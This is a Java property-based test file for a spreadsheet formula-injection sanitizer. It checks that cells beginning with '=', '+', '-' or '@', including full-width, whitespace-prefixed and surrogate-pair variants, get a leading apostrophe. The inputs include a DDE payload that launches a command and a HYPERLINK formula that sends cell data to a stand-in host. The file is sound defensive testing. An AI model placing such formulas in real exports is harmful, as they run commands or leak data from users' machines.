package jp.ward.guard.audit.entries;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;

class SafeCellTest {

  /** Written by hand and not with the pattern of the guard. */
  private static final String FORMULA = "=+-@＝＋－＠";

  private static final String IN_FRONT = " 　\u00a0\u200b\"'＂“";

  @Example
  void what_spreadsheets_run_gets_an_apostrophe() {
    for (String cell :
        List.of(
            "=cmd|' /C calc'!A0",
            "+1",
            "-2+3",
            "@SUM(1)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\tx",
            "\rx",
            "\nx",
            "＝１＋１",
            "＋１",
            "－１",
            "＠ＳＵＭ",
            " =1+1",
            "　＝1+1",
            "\"=1+1",
            "'=1+1",
            "\u200b=1+1",
            "=HYPERLINK(\"http://example.invalid/?\"&A1,\"ここ\")")) {
      assertEquals("'" + cell, SafeCell.of(cell).replaceAll("(?<=[\\t\\r\\n])'", ""), cell);
    }
  }

  @Example
  void a_cell_of_other_separators_is_none_either() {
    assertEquals("確かめた;'=1+1", SafeCell.of("確かめた;=1+1"));
    assertEquals("a\n'=1\r\n'-2\t'@x", SafeCell.of("a\n=1\r\n-2\t@x"));
  }

  /** Characters of two UTF-16 units and more, before, in and behind what begins a formula. */
  @Example
  void no_character_is_taken_apart() {
    for (String cell :
        List.of(
            "😀=1",
            "😀+1",
            "😀-1",
            "😀@x",
            "a😀=1",
            "😀😀=1",
            "𠮷=1",
            "𠮷＝1",
            "葛\udb40\udd00=1", // 異体字
            "邉\udb40\udd04@x",
            "か\u3099=1",
            "👨\u200d👩\u200d👧=1",
            "🇯🇵=1",
            "👍🏽-1",
            "♥\ufe0f=1",
            "𝟙+1",
            "𝒳=2",
            "1\ufe0f\u20e3=1",
            "𠮷;確",
            "x\ud83d",
            "𠮷\ude00",
            "\ud83d",
            "\ude00x")) {
      assertEquals(cell, SafeCell.of(cell), cell);
    }
    for (String cell :
        List.of(
            "=😀",
            "\ud83d=1",
            "\ude00=1",
            "\ude00\ud83d=1",
            "\udb40\udd00=1",
            "\udb40\udc41+1",
            "\ufe0f=1",
            "\u3164=1",
            "\u115f@x",
            "\u0301=1",
            "\u20e3-1",
            "\u00ad=1",
            "\ue000=1",
            "\udbff\udfff=1",
            "\u061c＝1",
            "\ufeff﹢1")) {
      assertEquals("'" + cell, SafeCell.of(cell), cell);
    }
    assertEquals("😀;'=1", SafeCell.of("😀;=1"));
    assertEquals("😀；'\udb40\udd00=1\t'@", SafeCell.of("😀；\udb40\udd00=1\t@"));
  }

  @Property(tries = 5000)
  void only_apostrophes_are_added_and_none_inside_a_character(
      @ForAll("hostile") String cell, @ForAll("pairs") String pair) {
    String text = cell + pair + cell + pair;
    String safe = SafeCell.of(text);
    for (int i = 1; i + 1 < safe.length(); i++) {
      assertFalse(
          safe.charAt(i) == '\''
              && Character.isSurrogatePair(safe.charAt(i - 1), safe.charAt(i + 1)),
          safe);
    }
    assertEquals(text.replace("'", ""), safe.replace("'", ""));
  }

  @Provide
  Arbitrary<String> pairs() {
    return Arbitraries.of("😀", "𠮷", "\udb40\udd00", "\udbff\udfff", "👍🏽", "\ud83d", "\ude00");
  }

  @Example
  void a_cell_is_cut_where_spreadsheets_let_it_run_over_and_never_inside_a_character() {
    for (String part : List.of("a", "😀", "a😀", ";=", "\n=1")) {
      String safe = SafeCell.of(part.repeat(40_000));
      assertTrue(safe.length() >= SafeCell.LONGEST && safe.length() <= SafeCell.LONGEST + 2);
      assertTrue(safe.endsWith("a") || !Character.isHighSurrogate(safe.charAt(safe.length() - 1)));
    }
  }

  @Example
  void other_text_stays_as_it_is() {
    for (String cell :
        List.of(
            "",
            "s-2001",
            "R8-0012",
            "止めた理由と職員の対応を確かめた。",
            "a=b, -1",
            "1+1",
            "𠮷野",
            "\"引用\"",
            "2 行\n目")) {
      assertEquals(cell, SafeCell.of(cell));
    }
    assertEquals("", SafeCell.of(null));
  }

  @Property(tries = 5000)
  void no_cell_begins_like_a_formula(@ForAll("hostile") String cell) {
    String safe = SafeCell.of(cell);
    for (String part : safe.split("[;\\t\\r\\n]", -1)) {
      assertFalse(!part.isEmpty() && !part.startsWith("'") && begins(part), part);
    }
    assertTrue(safe.isEmpty() || "\t\r\n".indexOf(safe.charAt(0)) < 0, safe);
  }

  private static boolean begins(String part) {
    int first = 0;
    while (first < part.length() && IN_FRONT.indexOf(part.charAt(first)) >= 0) {
      first++;
    }
    return first < part.length() && FORMULA.indexOf(part.charAt(first)) >= 0;
  }

  @Property(tries = 5000)
  void nothing_is_lost(@ForAll("hostile") String cell) {
    assertEquals(cell.replace("'", ""), SafeCell.of(cell).replace("'", ""));
  }

  @Provide
  Arbitrary<String> hostile() {
    return Arbitraries.strings().withChars(FORMULA + IN_FRONT + ";,\t\r\nA1漢字").ofMaxLength(12);
  }
}
